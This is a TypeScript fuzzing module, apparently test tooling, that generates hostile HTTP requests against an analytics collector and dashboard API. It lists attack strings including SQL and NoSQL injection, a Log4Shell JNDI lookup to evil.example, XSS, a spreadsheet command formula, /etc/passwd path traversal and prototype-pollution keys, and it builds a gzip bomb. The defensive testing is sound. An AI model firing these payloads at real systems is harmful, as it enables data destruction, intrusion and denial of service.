import { gzipSync } from 'node:zlib';
import fc from 'fast-check';

/** One HTTP request as the fuzzer sends it (raw: fetch would refuse some of them). */
export interface HostileRequest {
  method: string;
  path: string;
  headers: Record<string, string>;
  body?: Buffer;
}

/** Strings that look like attacks on a query language, a template, a shell, a log or a page. */
const INJECTIONS = [
  "' OR 1=1 --",
  '"; DROP TABLE quotes; --',
  'r.db("rethinkdb").table("users").delete()',
  '{"$where": "sleep(1000)"}',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '=cmd|"/c calc"!A1',
  '../../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fpasswd',
  '%00',
  '\u0000\u0001\u001f',
  '\r\nSet-Cookie: x=1',
  '\uD800',
  '\uFEFF',
  'NaN',
  '-1',
  '1e309',
  '275760-09-13T00:00:00.001Z',
  '-271821-04-20T00:00:00.000Z',
];

const PROTO_KEYS = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf'];

const hostileString = fc.oneof(
  { weight: 3, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 3, arbitrary: fc.constantFrom(...INJECTIONS) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.integer({ min: 1, max: 300_000 }).map((n) => 'x'.repeat(n)) },
);

const hostileNumber = fc.oneof(
  fc.constantFrom(Number.NaN, -1, 0, Number.MAX_SAFE_INTEGER, -Number.MAX_VALUE, 1e308),
  fc.double(),
  fc.integer(),
);

const hostileKey = fc.oneof(fc.constantFrom(...PROTO_KEYS), fc.string({ maxLength: 12 }));

/** JSON values with attack strings, prototype keys and numbers JSON cannot hold (they become null). */
const { value: hostileValue } = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    hostileString,
    hostileNumber,
    fc.boolean(),
    fc.constant(null),
    fc.array(tie('value'), { maxLength: 4 }),
    fc.dictionary(hostileKey, tie('value'), { maxKeys: 4 }),
  ),
}));

const timestamp = fc.oneof(
  fc.date({ noInvalidDate: true }).map((d) => d.toISOString()),
  hostileString,
  hostileNumber,
);

const event = fc.record(
  {
    id: fc.oneof(fc.uuid(), hostileString, hostileNumber),
    type: fc.oneof(
      fc.constantFrom('track', 'view', 'click', 'postback', 'identify', 'page', 'screen', 'group', 'alias'),
      hostileString,
    ),
    name: fc.oneof(fc.constant('quote requested'), hostileString),
    anonymousId: fc.oneof(fc.constant('visitor-1'), hostileString, fc.constant(null)),
    userId: fc.oneof(hostileString, fc.constant(null)),
    sentAt: timestamp,
    // Segment's fields: any string as messageId, clock readings, traits and the ids of group/alias.
    messageId: fc.oneof(fc.string({ maxLength: 80 }), hostileString, hostileNumber),
    timestamp,
    originalTimestamp: timestamp,
    traits: hostileValue,
    groupId: fc.oneof(fc.constant('acme'), hostileString),
    previousId: fc.oneof(fc.constant('visitor-0'), hostileString),
    properties: hostileValue,
    context: hostileValue,
  },
  { requiredKeys: [] },
);

/** `{"a":…}` nested `depth` levels, as text. */
const nestedText = (depth: number) => `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;

/** 20 MB of spaces gzipped to ~20 KB: a body that grows past every limit when decoded. */
let bomb: Buffer | undefined;
const gzipBomb = () => (bomb ??= gzipSync(Buffer.alloc(20 * 1024 * 1024, 0x20), { level: 9 }));

type Mutation = 'none' | 'truncate' | 'invalid-utf8' | 'deep' | 'gzip' | 'bad-gzip' | 'bomb';

const mutation: fc.Arbitrary<Mutation> = fc.constantFrom(
  'none',
  'none',
  'truncate',
  'invalid-utf8',
  'deep',
  'gzip',
  'bad-gzip',
  'bomb',
);

/** A JSON body made hostile by one mutation; returns the body and the headers it needs. */
function mutate(
  json: string,
  how: Mutation,
  cut: number,
  depth: number,
): { body: Buffer; headers: Record<string, string> } {
  const text = Buffer.from(json);
  switch (how) {
    case 'none':
      return { body: text, headers: {} };
    case 'truncate':
      return { body: text.subarray(0, Math.floor(text.length * cut)), headers: {} };
    case 'invalid-utf8': {
      const at = Math.floor(text.length * cut);
      return {
        body: Buffer.concat([text.subarray(0, at), Buffer.alloc(1 + depth * 40, 0xff), text.subarray(at)]),
        headers: {},
      };
    }
    case 'deep':
      return { body: Buffer.from(json.replace(/\{/, `{"deep":${nestedText(depth)},`)), headers: {} };
    case 'gzip':
      return { body: gzipSync(text), headers: { 'content-encoding': 'gzip' } };
    case 'bad-gzip':
      return { body: text, headers: { 'content-encoding': 'gzip' } };
    case 'bomb':
      return { body: gzipBomb(), headers: { 'content-encoding': 'gzip' } };
  }
}

/** A path segment of `s`, lone surrogates made U+FFFD (encodeURIComponent throws on them). */
const segment = (s: string) =>
  encodeURIComponent(
    s
      .slice(0, 200)
      .replace(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g, '\uFFFD'),
  );

const basic = (key: string) => `Basic ${Buffer.from(`${key}:`).toString('base64')}`;

/** Requests to the collector's endpoints, and to paths that are none of them. */
export function collectorRequests(writeKey: string): fc.Arbitrary<HostileRequest> {
  const auth = fc.oneof(
    fc.constant(basic(writeKey)),
    fc.constant(basic(writeKey)),
    hostileString.map((s) => basic(s)),
    hostileString.map((s) => `Bearer ${s}`),
    fc.constant(undefined),
  );
  const contentType = fc.constantFrom(
    'application/json',
    'application/json',
    'text/plain',
    'application/x-www-form-urlencoded',
    'application/json; charset=utf-16',
    'image/gif',
    undefined,
  );
  const jsonBody = fc.oneof(
    event.map((e) => JSON.stringify(e)),
    fc
      .array(event, { maxLength: 20 })
      .map((batch) => JSON.stringify({ batch, sentAt: new Date().toISOString() })),
    hostileValue.map((v) => (JSON.stringify(v) as string | undefined) ?? 'null'),
  );
  const query = fc
    .array(
      fc.tuple(
        fc.oneof(
          fc.constantFrom(
            'writeKey',
            'aid',
            'uid',
            'name',
            'url',
            'ref',
            'p.x',
            'utm_source',
            'partner',
            'secret',
            'event',
            'transactionId',
            '__proto__[x]',
          ),
          hostileKey,
        ),
        hostileString,
      ),
      { maxLength: 6 },
    )
    .map((pairs) => {
      const params = new URLSearchParams();
      for (const [k, v] of pairs) params.append(k, v.slice(0, 2000));
      return params.toString();
    });
  const post = fc
    .record({
      path: fc.constantFrom(
        '/v1/track',
        '/v1/batch',
        '/v1/postback',
        '/v1/links',
        '/v1/identify',
        '/v1/alias',
        '/v1/b',
        '/v1/p',
      ),
      body: jsonBody,
      how: mutation,
      cut: fc.double({ min: 0, max: 1, noNaN: true }),
      depth: fc.integer({ min: 1, max: 6000 }),
      auth,
      contentType,
    })
    .map(({ path, body, how, cut, depth, auth: authorization, contentType: type }) => {
      const mutated = mutate(body, how, cut, depth);
      const headers: Record<string, string> = { ...mutated.headers };
      if (authorization !== undefined) headers.authorization = authorization;
      if (type !== undefined) headers['content-type'] = type;
      return { method: 'POST', path, headers, body: mutated.body };
    });
  const get = fc
    .record({
      path: fc.oneof(
        fc.constantFrom('/v1/pixel.gif', '/v1/postback', '/healthz', '/readyz', '/v1/links'),
        hostileString.map((s) => `/r/${segment(s)}`),
        hostileString.map((s) => `/v1/links/${segment(s)}`),
        fc.constantFrom(
          '/../../etc/passwd',
          '/v1/../../etc/passwd',
          '/%2e%2e/%2e%2e/etc/passwd',
          '//v1//track',
          '/v1/track%00',
        ),
      ),
      query,
      method: fc.constantFrom('GET', 'GET', 'HEAD', 'OPTIONS', 'PUT', 'DELETE', 'PATCH'),
      userAgent: fc.oneof(
        fc.constant('Mozilla/5.0'),
        hostileString.map((s) => s.slice(0, 20_000)),
      ),
    })
    .map(({ path, query: q, method, userAgent }) => ({
      method,
      path: q === '' ? path : `${path}?${q}`,
      headers: { 'user-agent': userAgent },
    }));
  return fc.oneof({ weight: 3, arbitrary: post }, { weight: 2, arbitrary: get });
}

/** Requests to the dashboard's API as a signed-in analyst: hostile parameters everywhere. */
export function dashboardRequests(): fc.Arbitrary<HostileRequest> {
  const param = fc.tuple(
    fc.oneof(
      fc.constantFrom(
        'from',
        'to',
        'limit',
        'offset',
        'cursor',
        'source',
        'station',
        'carGroup',
        'channel',
        'type',
        'format',
        'granularity',
        'groupBy',
        'from[__proto__]',
        '__proto__',
        'constructor[prototype][x]',
      ),
      hostileKey,
    ),
    fc.oneof(
      timestamp.map(String),
      hostileString.map((s) => s.slice(0, 2000)),
      hostileNumber.map(String),
    ),
  );
  const query = fc.array(param, { maxLength: 6 }).map((pairs) => {
    const params = new URLSearchParams();
    for (const [k, v] of pairs) params.append(k, v);
    return params.toString();
  });
  const path = fc.oneof(
    fc.constantFrom('quotes', 'bookings', 'events', 'clusters').map((k) => `/api/v1/records/${k}`),
    fc.constantFrom('quotes', 'bookings', 'events', 'clusters').map((k) => `/api/v1/export/${k}`),
    fc.constantFrom(
      '/api/v1/kpis',
      '/api/v1/rollups',
      '/api/v1/kpis/export',
      '/api/v1/dlq',
      '/api/v1/pipeline',
      '/api/v1/me',
      '/api/v1/openapi.json',
    ),
    hostileString.map((s) => `/api/v1/records/${segment(s)}`),
    hostileString.map((s) => `/api/v1/clusters/${segment(s)}`),
    fc.constantFrom(
      '/api/v1/../../etc/passwd',
      '/api/v1/%2e%2e/%2e%2e/etc/passwd',
      '/static/../../package.json',
    ),
  );
  const get = fc.record({ path, query }).map(({ path: p, query: q }) => ({
    method: 'GET',
    path: q === '' ? p : `${p}?${q}`,
    headers: {},
  }));
  const post = fc
    .record({
      path: fc.constantFrom('/api/v1/tokens', '/api/v1/users'),
      body: hostileValue.map((v) => (JSON.stringify(v) as string | undefined) ?? 'null'),
      how: fc.constantFrom<Mutation>('none', 'truncate', 'deep', 'invalid-utf8'),
      cut: fc.double({ min: 0, max: 1, noNaN: true }),
      depth: fc.integer({ min: 1, max: 3000 }),
    })
    .map(({ path: p, body, how, cut, depth }) => ({
      method: 'POST',
      path: p,
      headers: { 'content-type': 'application/json' },
      body: mutate(body, how, cut, depth).body,
    }));
  return fc.oneof({ weight: 4, arbitrary: get }, { weight: 1, arbitrary: post });
}
